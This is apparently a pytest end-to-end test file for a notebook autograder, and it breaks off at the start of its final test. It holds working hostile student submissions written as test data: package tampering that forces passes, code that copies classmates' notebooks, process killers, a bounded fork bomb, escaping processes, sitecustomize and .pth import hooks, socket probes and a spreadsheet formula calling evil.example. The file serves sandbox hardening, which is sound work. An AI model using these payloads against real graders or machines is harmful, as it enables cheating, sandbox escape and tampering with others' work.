"""End-to-end tests of the batch grader: real kernels, real worker processes.

One batch run grades the demo notebook's solution, its student version and a
battery of hostile and broken submissions together (so kernels start only
once per submission); each test then reads that run's gradebook. The demo's
exercises are registered by ``demo/checks/demo.py`` through ``--checks``
(copied to a private folder, as an instructor would keep them).

The grader runs as a subprocess on a copy of the installed package, so that
an attack that got through could only ever change the copy; every test that
runs one checks that the real package is unchanged. Where the machine gives
student code OS isolation, the battery also holds the attacks that need it
to fail (tampering with the package, copying a classmate's solution, writing
into the results or a classmate's snapshot, reading the hidden checks,
killing the grader); where it does not, those tests skip and say so.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import nbformat
import pytest

import coursework
from coursework.build import dumps, split_notebook
from coursework.grading.integrity import hash_files
from coursework.grading.probe import Isolation, probe

# One battery grades ~27 submissions: on a loaded 2-core machine its setup
# alone can pass the suite's 900 s default.
pytestmark = pytest.mark.timeout(2400)

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
DEMO = HERE / "demo" / "90_demo.py"
CHECKS = HERE / "demo" / "checks"
IDS = ["demo.softplus", "demo.pairwise_sq_dists", "demo.normalize"]
FAST = [
    "--checks",
    str(CHECKS),
    "--jobs",
    "2",
    "--quiet",
    "--cell-timeout",
    "8",
    "--exercise-timeout",
    "6",
    "--notebook-timeout",
    "90",
    "--memory-mb",
    "1500",
    "--max-processes",
    "96",
    "--disk-mb",
    "200",
]


def demo_notebooks() -> tuple[nbformat.NotebookNode, nbformat.NotebookNode]:
    solution, student, _ = split_notebook(DEMO)
    return solution, student


def variant(
    nb: nbformat.NotebookNode,
    replace: dict[str, str] | None = None,
    extra: list[str] | None = None,
    drop: tuple[str, ...] = (),
) -> nbformat.NotebookNode:
    """A copy with exercise cells replaced or dropped, cells added after the imports."""
    nb = copy.deepcopy(nb)
    cells = []
    for cell in nb.cells:
        exercise = cell.metadata.get("exercise")
        if exercise in drop:
            continue
        if exercise in (replace or {}):
            cell.source = replace[exercise]
        cells.append(cell)
        if cell.cell_type == "code" and cell.source.strip() == "import torch":
            cells += [nbformat.v4.new_code_cell(src) for src in extra or []]
    nb.cells = cells
    for i, cell in enumerate(nb.cells):
        cell.id = f"cell-{i}"
    return nb


WRONG_SOFTPLUS = "def softplus(x):\n    return x\n"
PAIRWISE = "def pairwise_sq_dists(a, b):\n"
NORMALIZE = "def normalize(x, eps=1e-8):\n"
LOGADDEXP = "    return torch.logaddexp(x, torch.zeros_like(x))\n"
# Large steps, then held: the cap (1500 MB) is passed in two steps, and a
# process still over it when its time runs out is reported as memory.
HOG = (
    NORMALIZE + "    import time\n"
    "    hog = []\n"
    "    for _ in range(4):\n"
    "        hog.append(b'x' * (1000 * 2**20))\n"
    "        time.sleep(0.05)\n"
    "    time.sleep(60)\n"
    "    return x\n"
)
TAMPER = (
    "import pathlib, re\n"
    "import coursework\n"
    "core = pathlib.Path(coursework.__file__).parent / 'exercises' / 'core.py'\n"
    "text = core.read_text()\n"
    "text = re.sub(r'(def _run_case\\(.*?\\) -> CaseResult:\\n)',\n"
    "              r\"\\1    return CaseResult(case.name, PASSED, '', hidden)\\n\",\n"
    "              text, count=1, flags=re.S)\n"
    "core.write_text(text)\n"
    "print('TAMPERED')\n"
)


def thief(subs: Path) -> str:
    """``softplus`` that copies a classmate's from any notebook it can find."""
    return (
        "import torch\n"
        "def softplus(x):\n"
        "    import glob, json, os, tempfile\n"
        "    patterns = []\n"
        "    for tmp in {tempfile.gettempdir(), '/tmp'}:\n"
        "        patterns += [\n"
        "            tmp + '/coursework-grader-*/submissions/*/*.ipynb',\n"
        "            tmp + '/coursework-grader-*/**/*.ipynb',\n"
        "            tmp + '/coursework-grade-*/*.ipynb',\n"
        "        ]\n"
        f"    patterns.append({str(subs)!r} + '/*.ipynb')\n"
        "    own = os.getcwd()\n"
        "    for pattern in patterns:\n"
        "        for path in glob.glob(pattern, recursive=True):\n"
        "            if path.startswith(own):\n"
        "                continue\n"
        "            try:\n"
        "                cells = json.load(open(path))['cells']\n"
        "            except (OSError, ValueError, KeyError):\n"
        "                continue\n"
        "            for cell in cells:\n"
        "                src = ''.join(cell.get('source', ''))\n"
        "                if 'def softplus' in src and 'logaddexp' in src:\n"
        "                    space = {}\n"
        "                    exec(src, space)\n"
        "                    return space['softplus'](x)\n"
        "    raise NotImplementedError('nothing to copy')\n"
    )


def snapshot_writer(subs: Path, out: Path) -> str:
    """A cell that writes into the results and every classmate's snapshot it finds."""
    return (
        "import glob, os, pathlib\n"
        f"out = pathlib.Path({str(out)!r})\n"
        "targets = [out / 'grades.csv', out / '.state' / 'x.json']\n"
        "for tmp in ('/tmp', os.path.dirname(os.getcwd())):\n"
        "    targets += glob.glob(tmp + '/coursework-grader-*/**/*.ipynb',\n"
        "                         recursive=True)\n"
        "    targets += glob.glob(tmp + '/coursework-grade-*/*.ipynb')\n"
        f"targets.append({str(subs / 'solution.ipynb')!r})\n"
        "wrote = 0\n"
        "for target in targets:\n"
        "    if str(target).startswith(os.getcwd()):\n"
        "        continue\n"
        "    try:\n"
        "        pathlib.Path(target).write_text('student,total\\nx,999\\n')\n"
        "        wrote += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "print(f'WROTE {wrote} of {len(targets)}')\n"
    )


def checks_reader(checks: Path) -> str:
    """``normalize`` that reads a hidden checks file first."""
    return (
        NORMALIZE + f"    secret = open({str(checks / 'demo.py')!r}).read()\n"
        "    return x / (x.norm(dim=-1, keepdim=True) + eps)\n"
    )


def killer(grader_too: bool) -> str:
    """``pairwise_sq_dists`` that kills its parent (the worker), and the grader."""
    grader = (
        "    status = open(f'/proc/{os.getppid()}/status').read()\n"
        "    victims.append(int(status.split('PPid:')[1].split()[0]))\n"
        if grader_too
        else ""
    )
    return (
        "import os, signal\n" + PAIRWISE + "    victims = [os.getppid()]\n"
        "    if victims[0] == 0:  # the parent is outside this process namespace\n"
        "        raise ProcessLookupError('no parent to kill')\n"
        f"{grader}"
        "    for pid in victims:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    return (a[:, None, :] - b[None, :, :]).pow(2).sum(-1)\n"
    )


# Issue 22: what got through before. Each is a cell of its own in a notebook
# that otherwise holds the full solution, so it must still get full marks.
FORK_BOMB = (  # bounded: the cap must refuse it long before 300
    "import subprocess\n"
    "procs = []\n"
    "try:\n"
    "    for _ in range(300):\n"
    "        procs.append(subprocess.Popen(['sleep', '60.123']))\n"
    "    print('FORKED', len(procs))\n"
    "except OSError as exc:\n"
    "    print('REFUSED after', len(procs), type(exc).__name__)\n"
    "for proc in procs:\n"
    "    proc.kill()\n"
    "    proc.wait()\n"
)
ESCAPE = (  # a double-forked, setsid process that should outlive its job
    "import os\n"
    "if os.fork() == 0:\n"
    "    os.setsid()\n"
    "    if os.fork() == 0:\n"
    "        os.execvp('sleep', ['sleep', '300.5'])\n"
    "    os._exit(0)\n"
    "os.wait()\n"
    "print('ESCAPED')\n"
)
ESCAPED_HOG = (  # a double-forked process holding memory over the cap
    "import os, time\n"
    "if os.fork() == 0:\n"
    "    if os.fork() == 0:\n"
    "        hog = [b'x' * (1000 * 2**20) for _ in range(2)]\n"
    "        time.sleep(60)\n"
    "    os._exit(0)\n"
    "os.wait()\n"
    "time.sleep(30)\n"
)
LEFT_BEHIND = ("60.123", "300.5")
# Issue 28 (5): SysV shared memory that should outlive its job, and files
# that together pass the job's disk quota (--disk-mb 200), each below the
# per-file limit; the cell removes what it wrote, so the job goes on.
SHM_KEY = 0x5EED0028
SHARED_MEMORY = (
    "import ctypes\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    f"ids = [libc.shmget({SHM_KEY} + i, 256 * 2**20, 0o1600) for i in range(2)]\n"
    "seen = len(open('/proc/sysvipc/shm').read().splitlines()) - 1\n"
    "print('SHM', ids, 'SEEN', seen)\n"
)
DISK_FILLER = (
    "import os\n"
    "written = 0\n"
    "try:\n"
    "    for i in range(32):\n"
    "        with open(f'fill{i}', 'wb') as f:\n"
    "            f.write(b'x' * (63 * 2**20))\n"
    "        written += 1\n"
    "finally:\n"
    "    print('WROTE', written)\n"
    "    for i in range(written + 1):\n"
    "        if os.path.exists(f'fill{i}'):\n"
    "            os.remove(f'fill{i}')\n"
)
DISPLAY_FLOOD = (
    "from IPython.display import display\n"
    "handles = [display('x', display_id='same') for _ in range(20)]\n"
    "handles[0].update('y' * (8 * 2**20))\n"
)
NESTED = '{"a":' * 100_000 + "1" + "}" * 100_000
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
DYNAMIC_REFERENCE = (
    "import importlib\n"
    "def softplus(x):\n"
    "    module = importlib.import_module('torch.nn.' + 'functional')\n"
    "    return getattr(module, 'soft' + 'plus')(x)\n"
)
HIDDEN_ONLY = (  # right on every public case, wrong on the hidden one (x = 500)
    "import torch\n"
    "def softplus(x):\n"
    "    return torch.logaddexp(x, torch.zeros_like(x)).clamp(max=100)\n"
)


# Issue 28 (1): files that run code when a Python process imports them from
# the job's folder (or the home folder the grader gives it). Each leaves a
# mark, named after itself, in the job's folder, where the student's own
# functions and cells then look: "IMPORTED=[]" means no process imported any.
MARK = (
    "import os\n"
    "_d = os.path.join(os.environ.get('HOME', '/nonexistent'), '..', '.imported')\n"
    "try:\n"
    "    os.makedirs(_d, exist_ok=True)\n"
    "    open(os.path.join(_d, '{name}-%d' % os.getpid()), 'w').close()\n"
    "except OSError:\n"
    "    pass\n"
)
USER_SITE = ".home/.local/lib/python{}.{}/site-packages".format(*sys.version_info)
PLANTED = {
    "coursework/__init__.py": MARK.format(name="coursework"),
    "sitecustomize.py": MARK.format(name="sitecustomize"),
    "usercustomize.py": MARK.format(name="usercustomize"),
    "evil.pth": f"import os; exec({MARK.format(name='pth')!r})\n",
    f"{USER_SITE}/usercustomize.py": MARK.format(name="user-usercustomize"),
    f"{USER_SITE}/evil.pth": f"import os; exec({MARK.format(name='user-pth')!r})\n",
}
PLANT = (  # the same files, written by student code into its working directory
    "import json, os\n"
    f"for _p, _t in json.loads({json.dumps(PLANTED)!r}).items():\n"
    "    os.makedirs(os.path.dirname(_p) or '.', exist_ok=True)\n"
    "    open(_p, 'w').write(_t)\n"
)
SEEN = "sorted(os.listdir('.imported')) if os.path.isdir('.imported') else []"
REPORTING = {  # blank functions that say what was imported
    ex: f"import os\ndef {fn}(*args, **kwargs):\n"
    f"    raise NotImplementedError('IMPORTED=' + repr({SEEN}))\n"
    for ex, fn in [
        ("demo.softplus", "softplus"),
        ("demo.pairwise_sq_dists", "pairwise_sq_dists"),
        ("demo.normalize", "normalize"),
    ]
}
KERNEL_REPORT = f"import os\nprint('IMPORTED=' + repr({SEEN}))\n"
PLANT_CELL = PLANT + "print('PLANTED')\n"
# A class body runs when the checks child rebuilds the definitions: it plants
# the files, then ends its child once, so the grader starts the next there.
PLANT_CLASS = (
    "class _Plant:\n"
    "    import os\n"
    "    if not os.path.exists('.planted'):\n"
    "        open('.planted', 'w').close()\n"
    + "".join(f"        {line}\n" for line in PLANT.splitlines())
    + "        os._exit(1)\n"
)


def plant(folder: Path) -> None:
    """Write :data:`PLANTED` into a submitted folder."""
    for rel, text in PLANTED.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)


# Issue 28 (2): the exercise's name bound to the reference without a call the
# source check sees, and the reference run by a library on the student's behalf.
REFERENCE_FORMS = {
    "ref_decorator": "import torch.nn.functional as F\n_ref = F.softplus\n"
    "@(lambda f: _ref)\ndef softplus(x):\n    return x\n",
    "ref_list": "import torch.nn.functional as F\nsoftplus = [F.softplus][0]\n",
    "ref_lambda": "import torch.nn.functional as F\n"
    "softplus = (lambda: F.softplus)()\n",
    "ref_unpacking": "import torch.nn.functional as F\n"
    "softplus, _other = F.softplus, None\n",
    "ref_class": "import torch.nn.functional as F\nclass _Box:\n"
    "    fn = F.softplus\nsoftplus = _Box.fn\n",
    "ref_getattr": "import torch.nn.functional\n"
    "softplus = getattr(torch.nn.functional, 'softplus')\n",
    "ref_module": "import torch\ndef softplus(x):\n    return torch.nn.Softplus()(x)\n",
}
# Issue 28 (3): a reply of 125 million elements in a few bytes (a stride-0
# view, kept so by a class body that makes clone() return its input).
BALLOON = (
    "import torch\n"
    "class _Keep:\n"
    "    torch.Tensor.clone = lambda self, *a, **k: self\n"
    + NORMALIZE
    + "    return torch.zeros(1, dtype=x.dtype).expand(12_500, 10_000)\n"
)


def net_spy(port: int) -> str:
    """A cell that looks for other kernels' sockets (issue 22's attack) and the grader.

    It counts the processes it sees, the listening TCP sockets other than its
    own kernel's (ipykernel listens on loopback even over ipc) and the unix
    sockets outside its own folder (a classmate's kernel, TCP or ipc), tries
    to connect to each of those, and to a grader-side port.
    """
    return (
        "import os, socket\n"
        "print('PIDS', sum(p.isdigit() for p in os.listdir('/proc')))\n"
        "def table(name):\n"
        "    try:\n"
        "        return open('/proc/net/' + name).read().splitlines()[1:]\n"
        "    except OSError:\n"
        "        return []\n"
        "own = set()\n"  # the kernel's own sockets (ipykernel listens on loopback)
        "for fd in os.listdir('/proc/self/fd'):\n"
        "    try:\n"
        "        own.add(os.readlink('/proc/self/fd/' + fd))\n"
        "    except OSError:\n"
        "        pass\n"
        "ports = {int(r.split()[1].rsplit(':', 1)[1], 16)\n"
        "         for name in ('tcp', 'tcp6') for r in table(name)\n"
        "         if r.split()[3] == '0A'\n"
        "         and 'socket:[' + r.split()[9] + ']' not in own}\n"
        "paths = {r.split()[-1] for r in table('unix') if r.split()[-1][:1] == '/'}\n"
        "paths = {p for p in paths if not p.startswith(os.getcwd())}\n"
        "tcp = unix = 0\n"
        "for p in ports:\n"
        "    for host in ('127.0.0.1', '::1'):\n"
        "        try:\n"
        "            socket.create_connection((host, p), timeout=2).close()\n"
        "            tcp += 1\n"
        "        except OSError:\n"
        "            pass\n"
        "for p in paths:\n"
        "    try:\n"
        "        s = socket.socket(socket.AF_UNIX)\n"
        "        s.settimeout(2)\n"
        "        s.connect(p)\n"
        "        s.close()\n"
        "        unix += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "print('LISTENING', len(ports), 'CONNECTED', tcp)\n"
        "print('FOREIGN', len(paths), 'CONNECTED', unix)\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=5).close()\n"
        "    print('REACHED')\n"
        "except OSError as exc:\n"
        "    print('UNREACHABLE', exc)\n"
    )


def checked_offline(port: int) -> str:
    """``normalize``, right only where it cannot reach the grader's port: it runs
    in the checks child, which gets the hidden inputs (issue 22 (12))."""
    return (
        "import socket\n" + NORMALIZE + "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {port}), timeout=2).close()\n"
        "        return x  # the network was open: a wrong answer tells the test\n"
        "    except OSError:\n"
        "        return x / (x.norm(dim=-1, keepdim=True) + eps)\n"
    )


def battery(
    solution: nbformat.NotebookNode,
    student: nbformat.NotebookNode,
    subs: Path,
    out: Path,
    checks: Path | None = None,
    isolation: Isolation | None = None,
    port: int | None = None,
) -> dict[str, str | nbformat.NotebookNode]:
    """Every submission of the battery: a notebook, or raw text for broken files.

    With OS isolation (``isolation`` not process-only) the attacks that only
    isolation can stop are added, each beside the honest submissions;
    ``port`` (a socket the test listens on) adds the network spy.
    """
    spy = [net_spy(port)] if port else []
    offline = {"demo.normalize": checked_offline(port)} if port else {}
    text = dumps(solution)
    writer = (
        "import os, pathlib\n"
        "pathlib.Path('../escaped.txt').write_text('x')\n"
        "pathlib.Path(os.path.expanduser('~/escaped.txt')).write_text('x')\n"
        f"out = pathlib.Path({str(out)!r})\n"
        "state = out / '.state'\n"
        "for target in [out / 'grades.csv', state / 'writes.json', state / 'a.json']:\n"
        "    try:\n"
        "        target.write_text('student,total\\nwrites,999\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        f"pathlib.Path({str(subs / 'solution.ipynb')!r}).write_text('overwritten')\n"
    )
    return {
        "solution": solution,
        "student": student,
        "loop": variant(
            solution,
            {"demo.normalize": NORMALIZE + "    while True:\n        pass"},
        ),
        "sys_exit": variant(
            solution,
            {"demo.pairwise_sq_dists": "import sys\n" + PAIRWISE + "    sys.exit(3)"},
            ["import sys\nsys.exit()"],
        ),
        "os_exit": variant(
            solution,
            {"demo.pairwise_sq_dists": "import os\n" + PAIRWISE + "    os._exit(1)"},
        ),
        "memory": variant(solution, {"demo.normalize": HOG}),
        "flood": variant(
            solution, extra=["for _ in range(50):\n    print('spam' * 25_000)"]
        ),
        "fake_pass": variant(
            student,
            extra=["print('✓ demo.softplus: 4/4 cases passed (2/2 points)\\nPASS')"],
        ),
        "redefine_check": variant(
            solution,
            {"demo.softplus": WRONG_SOFTPLUS},
            ["def check(*args, **kwargs):\n    print('✓ passed')\n    return True"],
        ),
        "monkeypatch": variant(
            solution,
            {"demo.softplus": WRONG_SOFTPLUS},
            [
                "import torch.nn.functional as F\n"
                "import coursework.exercises.core as core\n"
                "import coursework.exercises.compare as compare\n"
                "F.softplus = lambda x: x\n"
                "core.compare_values = lambda *a, **k: None\n"
                "compare.compare_values = lambda *a, **k: None\n"
                "core.run_check = lambda *a, **k: None"
            ],
        ),
        "writes": variant(solution, extra=[writer]),
        "deleted": variant(solution, drop=("demo.normalize",)),
        "renamed": variant(
            solution,
            {"demo.softplus": "import torch\ndef soft_plus(x):\n" + LOGADDEXP},
        ),
        "alias": variant(
            solution,
            {"demo.softplus": "import torch.nn.functional as F\nsoftplus = F.softplus"},
        ),
        "wrapper": variant(
            solution,
            {
                "demo.softplus": "from torch.nn import functional\n"
                "def softplus(x):\n    return functional.softplus(x)\n"
            },
        ),
        "invalid_json": "{this is not json",
        "truncated": text[: len(text) // 2],
        "wrong_version": json.dumps({**json.loads(text), "nbformat": 99}),
        "empty": "",
        # several attacks per notebook keep the battery's run time in check
        "escapee": variant(
            solution,
            offline,
            [FORK_BOMB, ESCAPE, *spy, SHARED_MEMORY, DISK_FILLER, ESCAPED_HOG],
        ),
        # issue 28 (1), route 3: a cell plants, its kernel dies, the next starts
        "planted_cell": variant(
            student, REPORTING, [PLANT_CELL, "import os\nos._exit(0)", KERNEL_REPORT]
        ),
        "nested": NESTED,
        "mixed": variant(
            solution,
            {
                "demo.softplus": DYNAMIC_REFERENCE,
                "demo.normalize": NORMALIZE
                + f"    raise NotImplementedError({FORMULA!r})\n",
            },
            [DISPLAY_FLOOD],
        ),
        "hidden_only": variant(solution, {"demo.softplus": HIDDEN_ONLY}),
        **(security_battery(solution, student, subs, out, checks, isolation)),
    }


def security_battery(
    solution: nbformat.NotebookNode,
    student: nbformat.NotebookNode,
    subs: Path,
    out: Path,
    checks: Path | None,
    isolation: Isolation | None,
) -> dict[str, str | nbformat.NotebookNode]:
    """The attacks on the grader and on classmates (only with OS isolation).

    ``a_attacker`` is the blank notebook with the tamper cell and the writes,
    whose ``softplus`` copies a classmate's, ``pairwise_sq_dists`` kills the
    worker (and the grader, where signals are contained) and ``normalize``
    reads the hidden checks; ``z_blank`` is graded after it.
    """
    if isolation is None or isolation.mode == "process" or checks is None:
        return {}
    attacker = variant(
        student,
        {
            "demo.softplus": thief(subs),
            "demo.pairwise_sq_dists": killer(isolation.signals_contained),
            "demo.normalize": checks_reader(checks),
        },
        [TAMPER, snapshot_writer(subs, out)],
    )
    return {"a_attacker": attacker, "z_blank": student}


def write_submissions(
    folder: Path, items: dict[str, str | nbformat.NotebookNode]
) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, item in items.items():
        data = item if isinstance(item, str) else dumps(item)
        (folder / f"{name}.ipynb").write_text(data, encoding="utf-8")


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


PACKAGE = Path(coursework.__file__).resolve().parent


def package_state() -> str:
    """One hash over the installed package's files (what the grader must not change)."""
    files = hash_files(PACKAGE)
    return hashlib.sha256(json.dumps(files, sort_keys=True).encode()).hexdigest()


def git_clean(path: Path) -> bool | None:
    """Whether git sees no change to ``path`` (None outside a git checkout)."""
    try:
        done = subprocess.run(
            ["git", "status", "--porcelain", "--", str(path)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=60,
        )
    except (OSError, subprocess.TimeoutExpired):
        return None
    return done.stdout.strip() == "" if done.returncode == 0 else None


@pytest.fixture(scope="module")
def package_copy() -> Iterator[Path]:
    """A copy of the installed package in a folder that every user may read."""
    base = Path(tempfile.mkdtemp(prefix="coursework-package-"))
    os.chmod(base, 0o755)
    shutil.copytree(
        PACKAGE, base / "coursework", ignore=shutil.ignore_patterns("__pycache__")
    )
    yield base
    shutil.rmtree(base, ignore_errors=True)


def private_checks(base: Path) -> Path:
    """The demo's checks, copied to a folder only the grader's user can open."""
    folder = base / "private-checks"
    shutil.copytree(CHECKS, folder, ignore=shutil.ignore_patterns("__pycache__"))
    os.chmod(folder, 0o700)
    return folder


def grade(
    package: Path,
    subs: Path,
    out: Path,
    *args: str,
    prefix: list[str] | None = None,
    timeout: float = 3000,
    path: str | None = None,
) -> subprocess.CompletedProcess[str]:
    """Run the grader on the package copy in ``package`` (a subprocess).

    ``path`` replaces ``PATH`` (where the grader looks for ``unshare``).
    """
    env = {
        **os.environ,
        "PYTHONPATH": str(package),
        "COURSEWORK_THREADS": "1",
        "OMP_NUM_THREADS": "1",
        **({"PATH": path} if path is not None else {}),
    }
    command = [sys.executable, "-m", "coursework", "grade", str(subs)]
    return subprocess.run(
        [*(prefix or []), *command, "--out", str(out), *args],
        cwd=package,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


@pytest.fixture(scope="module")
def isolation() -> Isolation:
    return probe()


@pytest.fixture(scope="module")
def graded(
    tmp_path_factory: pytest.TempPathFactory, package_copy: Path, isolation: Isolation
) -> dict[str, object]:
    base = tmp_path_factory.mktemp("battery")
    subs, out = base / "submissions", base / "results"
    checks = private_checks(base)
    solution, student = demo_notebooks()
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    items = battery(solution, student, subs, out, checks, isolation, port)
    write_submissions(subs, items)
    victim = links_submission(subs, base, solution)
    planted = subs / "planted_folder"  # issue 28 (1), route 1: a submitted folder
    write_submissions(
        planted, {"planted_folder": variant(student, REPORTING, [KERNEL_REPORT])}
    )
    plant(planted)
    before = package_state(), hash_files(package_copy / "coursework")
    args = [*FAST]
    args[args.index("--checks") + 1] = str(checks)
    try:
        done = grade(package_copy, subs, out, *args)
    finally:
        listener.close()
    results = {(r["student"], r["exercise"]): r for r in read_csv(out / "results.csv")}
    grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
    return {
        "alive": left_behind(),
        "shm": Path("/proc/sysvipc/shm").read_text(),
        "victim": victim,
        "victim_after": (victim / "target.json").read_text(),
        "victim_owner": (victim / "home").stat().st_uid,
        "status": done.returncode,
        "stderr": done.stderr,
        "out": out,
        "subs": subs,
        "base": base,
        "results": results,
        "grades": grades,
        "names": [*items, "linked", "planted_folder"],
        "isolation": isolation,
        "package_before": before,
        "package_after": (package_state(), hash_files(package_copy / "coursework")),
    }


def links_submission(subs: Path, base: Path, solution: nbformat.NotebookNode) -> Path:
    """A student folder whose links point out of it, and a notebook that is a link.

    ``linked/`` holds the solution and, where the grader writes and chowns,
    links to files outside (the kernel spec, the home folder); ``symlinked.ipynb``
    is a link to a notebook outside the submissions. Returns the victims' folder.
    """
    victim = base / "victim"
    (victim / "home").mkdir(parents=True)
    (victim / "target.json").write_text("untouched")
    (victim / "outside.ipynb").write_text(dumps(solution))
    folder = subs / "linked"
    folder.mkdir()
    (folder / "linked.ipynb").write_text(dumps(solution))
    spec = folder / ".kernelspec" / "kernels" / "coursework-grading"
    spec.mkdir(parents=True)
    (spec / "kernel.json").symlink_to(victim / "target.json")
    (folder / ".home").symlink_to(victim / "home")
    (folder / ".runtime").symlink_to(victim)
    (subs / "symlinked.ipynb").symlink_to(victim / "outside.ipynb")
    return victim


def left_behind() -> list[str]:
    """Command lines of processes that the battery's escapees started, still alive."""
    alive = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        words = [a.decode(errors="replace") for a in argv]
        if words[:1] == ["sleep"] and any(w in LEFT_BEHIND for w in words):
            alive.append(" ".join(words))
    return alive


def needs_isolation(graded: dict[str, object]) -> Isolation:
    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
    if iso.mode == "process":
        pytest.skip(f"no OS isolation on this machine: {'; '.join(iso.notes)}")
    return iso


def statuses(graded: dict[str, object], student: str) -> dict[str, str]:
    results = graded["results"]
    return {i: results[(student, i)]["status"] for i in IDS}  # type: ignore[index]


def test_batch_completes_with_a_full_gradebook(graded: dict[str, object]) -> None:
    assert graded["status"] == 0, graded["stderr"]
    grades = graded["grades"]
    assert sorted(grades) == sorted(graded["names"])  # type: ignore[arg-type]
    folders = ("linked", "planted_folder")
    for name, row in grades.items():  # type: ignore[attr-defined]
        assert all(row[i] != "" for i in IDS)
        assert float(row["max"]) == 4
        # issue 28 (4): the submitted file, as it sits in the submissions
        assert row["file"] == (f"{name}/" if name in folders else "") + f"{name}.ipynb"
    out: Path = graded["out"]  # type: ignore[assignment]
    for name in graded["names"]:  # type: ignore[attr-defined]
        assert (out / "feedback" / f"{name}.md").exists()
        assert (out / "feedback" / f"{name}.html").exists()
    summary = {r["exercise"]: r for r in read_csv(out / "summary.csv")}
    assert set(summary) == set(IDS)


def test_solution_gets_full_marks_and_student_version_zero(
    graded: dict[str, object],
) -> None:
    assert set(statuses(graded, "solution").values()) == {"passed"}
    assert float(graded["grades"]["solution"]["total"]) == 4  # type: ignore[index]
    assert set(statuses(graded, "student").values()) == {"missing"}
    assert float(graded["grades"]["student"]["total"]) == 0  # type: ignore[index]


@pytest.mark.parametrize(
    "student, expected",
    [
        ("loop", {"demo.normalize": "timeout"}),
        ("sys_exit", {"demo.pairwise_sq_dists": "error"}),
        ("os_exit", {"demo.pairwise_sq_dists": "kernel-died"}),
        ("memory", {"demo.normalize": "kernel-died"}),
        ("flood", {}),
        ("fake_pass", {i: "missing" for i in IDS}),
        ("redefine_check", {"demo.softplus": "failed"}),
        ("monkeypatch", {"demo.softplus": "failed"}),
        ("writes", {}),
        ("deleted", {"demo.normalize": "missing"}),
        ("renamed", {"demo.softplus": "missing"}),
        ("alias", {"demo.softplus": "uses-reference"}),
        ("wrapper", {"demo.softplus": "uses-reference"}),
        ("escapee", {}),
        ("mixed", {"demo.softplus": "uses-reference", "demo.normalize": "missing"}),
        ("hidden_only", {"demo.softplus": "failed"}),
        ("linked", {}),
    ],
)
def test_hostile_submission(
    graded: dict[str, object], student: str, expected: dict[str, str]
) -> None:
    got = statuses(graded, student)
    want = {i: expected.get(i, "passed") for i in IDS}
    assert got == want
    results = graded["results"]
    for i, status in want.items():
        points = float(results[(student, i)]["points"])  # type: ignore[index]
        if status == "passed":
            assert points == float(results[(student, i)]["max"])  # type: ignore[index]
        elif status in ("uses-reference", "missing", "timeout", "kernel-died"):
            assert points == 0


@pytest.mark.parametrize(
    "student", ["invalid_json", "truncated", "wrong_version", "empty", "nested"]
)
def test_unreadable_notebook_is_invalid(
    graded: dict[str, object], student: str
) -> None:
    assert set(statuses(graded, student).values()) == {"invalid-notebook"}
    feedback = (graded["out"] / "feedback" / f"{student}.md").read_text()  # type: ignore[operator]
    assert "could not be graded" in feedback


def test_no_process_of_the_run_is_left_alive(graded: dict[str, object]) -> None:
    """Issue 22 (2): a double-forked, setsid process dies with its job."""
    assert "ESCAPED" in executed_output(graded, "escapee")
    assert graded["alive"] == []


def test_process_count_is_capped(graded: dict[str, object]) -> None:
    """Issue 22 (3): a fork bomb (bounded at 300 here) is refused at the cap."""
    printed = executed_output(graded, "escapee")
    assert "REFUSED after" in printed and "FORKED" not in printed
    started = int(printed.split("REFUSED after")[1].split()[0])
    assert started < 96


def test_memory_of_every_process_of_a_job_is_watched(
    graded: dict[str, object],
) -> None:
    """Issue 22 (4): a double-forked process over the cap is a memory event."""
    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
    if not iso.namespaces:
        pytest.skip("no process namespace here: orphans leave the kernel's tree")
    feedback = (graded["out"] / "feedback" / "escapee.md").read_text()  # type: ignore[operator]
    assert "memory: `used more than 1500 MB of memory`" in feedback
    assert float(graded["grades"]["escapee"]["total"]) == 4  # type: ignore[index]


def test_student_code_has_no_network_and_sees_only_its_job(
    graded: dict[str, object],
) -> None:
    """Issue 22 (1, 12): no socket of the grader's machine, no classmate's
    process, in the kernel and in the checks child (which runs the hidden
    cases: its ``normalize`` passes only where the network is closed)."""
    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
    if not iso.namespaces:
        pytest.skip(f"namespaces are refused here: {'; '.join(iso.notes)}")
    printed = executed_output(graded, "escapee")
    assert "UNREACHABLE" in printed and "REACHED\n" not in printed
    assert int(printed.split("PIDS")[1].split()[0]) <= 3
    row = graded["results"][("escapee", "demo.normalize")]  # type: ignore[index]
    assert row["status"] == "passed", row["message"]
    # no classmate's kernel to find or reach, over TCP or an ipc socket
    assert "LISTENING 0 CONNECTED 0\nFOREIGN 0 CONNECTED 0\n" in printed
    assert "network" in iso.describe() and iso.describe() in graded["stderr"]  # type: ignore[operator]


def test_display_updates_count_in_the_output_cap(graded: dict[str, object]) -> None:
    """Issue 22 (5): one 8 MiB update of twenty displays sharing an id."""
    executed = graded["out"] / "executed" / "mixed.ipynb"  # type: ignore[operator]
    assert executed.stat().st_size < 2 * 2**20
    assert "output truncated" in executed.read_text()


def test_csv_cells_cannot_start_a_formula(graded: dict[str, object]) -> None:
